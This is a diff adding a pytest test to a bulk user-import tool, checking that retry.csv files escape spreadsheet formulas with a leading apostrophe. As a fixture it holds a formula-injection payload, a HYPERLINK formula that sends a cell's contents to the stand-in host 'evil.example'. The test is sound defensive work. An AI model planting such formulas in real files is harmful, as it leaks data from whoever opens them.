@@ -338,6 +338,24 @@ def test_retry_csv_of_a_parquet_run_runs_again(home: Path, tmp_path: Path) -> No
     assert [r["status"] for r in results(tmp_path / "again")] == ["created", "created"]
 
 
+@pytest.mark.parametrize("fmt", ["xlsx", "jsonl", "parquet"])
+def test_retry_csv_of_a_tabular_input_neutralises_formulas(home: Path, tmp_path: Path, fmt: str) -> None:
+    # retry.csv, a CSV file made from a workbook or JSON Lines for Excel, kept the cells as they
+    # were: a formula in them ran when the administrator opened it to fix the rows.
+    formula = '@HYPERLINK("http://evil.example/?"&A1,"click")'  # an xlsx cell starting "=" is a formula cell
+    source = write_table(tmp_path / f"in.{fmt}", ["signInName", "displayName", "jobTitle"],
+                         [["a@example.com", "A", "x"], ["not-an-address@", formula, "+33 6 12"]])
+    assert main(["create", str(source), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
+    with (tmp_path / "run" / "retry.csv").open(newline="", encoding="utf-8-sig") as handle:
+        assert list(csv.reader(handle)) == [["signInName", "displayName", "jobTitle"],
+                                            ["not-an-address@", "'" + formula, "'+33 6 12"]]
+    fixed = tmp_path / "fixed.csv"
+    fixed.write_bytes((tmp_path / "run" / "retry.csv").read_bytes().replace(b"not-an-address@", b"b@example.com"))
+    assert main(["create", str(fixed), "--dry-run", "--out-dir", str(tmp_path / "again"), "--quiet"]) == 0
+    with (tmp_path / "again" / "plan.csv").open(newline="", encoding="utf-8-sig") as handle:
+        assert [r["action"] for r in csv.DictReader(handle)] == ["create"]
+
+
 def test_an_interrupted_xlsx_run_resumes_on_the_same_sheet(home: Path, tmp_path: Path) -> None:
     from batch.outcome import Outcome, Status
     from batch.run.journal import Journal
